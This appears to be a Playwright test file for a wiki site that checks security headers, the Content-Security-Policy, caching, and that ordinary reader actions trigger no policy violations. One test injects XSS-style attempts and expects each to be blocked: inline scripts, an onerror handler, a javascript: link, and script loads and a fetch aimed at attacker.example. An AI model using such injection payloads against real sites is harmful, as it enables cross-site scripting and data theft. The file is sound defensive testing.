import type { Page } from '@playwright/test';
import { untilRunning } from '../../scripts/chromium';
import { policyOf } from '../../src/site/node/page-policy';
import { openRunning } from '../support/browser';
import { searchField } from '../support/search-modal';
import { violationsOf } from '../support/security';
import { CABLES } from '../support/fixture-pages';
import { expect, test } from '../support/site-test';

test('pages, short links, data and files come with the same policy and headers', async ({ request }) => {
  const policies = new Set<string | undefined>();
  for (const address of ['/', '/shows', CABLES, '/no-such-page', '/cables', '/page-data/app-data.json', '/manifest.webmanifest']) {
    const headers = (await request.get(address, { maxRedirects: 0 })).headers();
    policies.add(headers['content-security-policy']);
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'strict-transport-security': expect.stringMatching(/^max-age=\d{8}/),
      'permissions-policy': expect.stringContaining('camera=()'),
    });
  }
  expect(policies.size).toBe(1);
  const [policy = ''] = policies;
  const scripts = /script-src ([^;]+)/.exec(policy)?.[1] ?? '';
  expect(scripts).toContain("'self' 'sha256-");
  expect(scripts).not.toMatch(/unsafe|http|\*/);
  expect(policy).toContain("object-src 'none'");
  expect(policy).toContain("base-uri 'none'");
  expect(policy).toContain("frame-ancestors 'self'");
});

test('a page has the policy in itself too, before any script, for hosts without headers', async ({ request }) => {
  const response = await request.get('/wiki');
  const html = await response.text();
  expect(`${policyOf(html)}; frame-ancestors 'self'`).toBe(response.headers()['content-security-policy']);
  expect(html.slice(0, html.indexOf('http-equiv="Content-Security-Policy"'))).not.toContain('<script');
});

test('a page is asked for anew, what is named after its content is kept for ever', async ({ request }) => {
  const cacheOf = async (address: string) => (await request.get(address)).headers()['cache-control'];
  const page = await request.get('/wiki');
  expect(page.headers()['cache-control']).toBe('public, max-age=0, must-revalidate');
  expect(await cacheOf('/page-data/wiki/page-data.json')).toBe('public, max-age=0, must-revalidate');
  // The start script, what it loads later, and the font.
  const files = [...(await page.text()).matchAll(/["'](\/[^"']+\.(?:js|woff2))["']/g)].map(([, file = '']) => file);
  expect(files.length).toBeGreaterThan(4);
  for (const file of new Set(files)) expect(await cacheOf(file)).toBe('public, max-age=31536000, immutable');
});

test('the policy is in the way of whatever gets into a page', async ({ page }) => {
  const attempts: Record<string, () => void> = {
    'a script that is put into the page': () => {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = 1';
      document.head.append(script);
    },
    'a handler in markup': () => {
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="x" onerror="window.attacked = 1">';
      document.body.append(holder);
    },
    'a script of another site': () => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/script.js';
      document.head.append(script);
    },
    'a frame of another site': () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.example/';
      document.body.append(frame);
    },
    'sending something to another site': () => {
      void fetch('https://attacker.example/').catch(() => undefined);
    },
    'a link that is a script': () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.attacked=1';
      document.body.append(link);
      link.click();
    },
  };
  const violations = await violationsOf(page);
  await openRunning(page, '/wiki');
  for (const [name, attempt] of Object.entries(attempts)) {
    await test.step(name, async () => {
      const before = violations.length;
      await page.evaluate(attempt);
      await expect.poll(() => violations.length).toBeGreaterThan(before);
      expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    });
  }
  await test.step('text that becomes code', async () => {
    // The tests' own way into a page may run text; a timer of the page may not.
    await page.evaluate(() => {
      Reflect.apply(setTimeout, window, ['window.attacked = 1', 0]);
    });
    await page.waitForTimeout(100);
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
  });
});

test.describe('the site keeps to its own policy', () => {
  let violations: string[];
  test.beforeEach(async ({ page }) => {
    violations = await violationsOf(page);
  });

  /** What a reader does, after which nothing may have needed the policy to stop it. */
  const reader = (does: string, act: () => Promise<void>): Promise<void> =>
    test.step(does, async () => {
      await act();
      expect(violations).toEqual([]);
    });
  const goTo = (page: Page, url: string): Promise<void> => page.evaluate((to) => window.___navigate(to), url);

  test('whatever a reader does in the wiki', async ({ page }) => {
    const main = page.getByRole('main');
    await reader('is told that a file is missing, and loads the page anew', async () => {
      await page.route(/\/app-[0-9a-f]+\.js/, (route) => route.abort());
      await page.goto(CABLES);
      await page.keyboard.press('Shift');
      await expect(page.getByRole('alert')).toContainText('could not be loaded');
      await page.unroute(/\/app-[0-9a-f]+\.js/);
      await page.getByRole('alert').getByRole('button', { name: 'Retry' }).click();
      await expect(page.getByRole('alert')).toHaveCount(0);
      await page.waitForLoadState();
      await untilRunning(page);
    });
    await reader('zooms a picture and closes it', async () => {
      await page.locator('main img[role="button"]').first().click();
      const enlarged = page.locator('.medium-zoom-image--opened');
      await expect(enlarged.first()).toBeVisible();
      // While it still grows it hears nothing.
      await expect(async () => {
        await page.keyboard.press('Escape');
        await expect(enlarged).toHaveCount(0, { timeout: 200 });
      }).toPass();
    });
    await reader('searches, in the worker', async () => {
      await page.keyboard.press('Control+k');
      await searchField(page).fill('hoist');
      await expect(page.getByRole('dialog').getByRole('option').first()).toBeVisible();
      await page.keyboard.press('Escape');
    });
    await reader('enlarges a diagram, and turns the lights out', async () => {
      await goTo(page, '/wiki/disciplines/sound/playback');
      const diagram = page
        .locator('figure', { has: page.getByRole('img') })
        .filter({ has: page.getByRole('button', { name: /^Enlarge/ }) });
      await expect(diagram.first().locator('svg').first()).toBeVisible();
      await diagram
        .first()
        .getByRole('button', { name: /^Enlarge/ })
        .click();
      await expect(page.getByRole('dialog').locator('svg')).toBeVisible();
      await page.keyboard.press('Escape');
      await page.getByRole('button', { name: /^Dark mode/ }).click();
      await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
    });
    await reader('filters a table', async () => {
      await goTo(page, '/wiki/resources/acronyms');
      await main.getByRole('searchbox').first().fill('DSM');
      await expect(main.getByRole('cell', { name: 'DSM' }).first()).toBeVisible();
    });
    await reader('answers the quiz', async () => {
      await goTo(page, '/wiki/directories/flags');
      await page.getByRole('button', { name: 'Start the quiz' }).click();
      await page.getByRole('button', { name: 'No', exact: true }).click();
      await expect(page.getByText('Question 2 of')).toBeVisible();
    });
    await reader('opens the page of search', async () => {
      await page.goto('/wiki/search?q=cables');
      await expect(main.getByRole('link', { name: /Cable/ }).first()).toBeVisible();
    });
  });

  test('on the way in, and where something of another site is shown', async ({ page }) => {
    await page.route(/crewvacancies/, (route) => route.fulfill({ contentType: 'text/html', body: '<h1>Another site</h1>' }));
    await reader('follows a short link, and a redirect', async () => {
      await page.goto('/cables?from=poster');
      await expect(page).toHaveURL(/\/wiki\/disciplines\/lx\/cables\?from=poster/);
      await page.goto('/apply');
      await expect(page).toHaveURL(/\/opportunities$/);
    });
    await reader('opens the board of another site, which loads on a click and in a sandbox', async () => {
      await untilRunning(page);
      expect(page.frames()).toHaveLength(1);
      await page.getByRole('button', { name: 'Show “Crew vacancies on the dashboard”' }).first().click();
      const frame = page.locator('iframe');
      await expect(frame).toHaveAttribute('sandbox', /allow-scripts/);
      expect(await frame.getAttribute('sandbox')).not.toMatch(/allow-top-navigation|allow-modals/);
      await expect(frame.contentFrame().getByRole('heading', { name: 'Another site' })).toBeVisible();
    });
  });
});
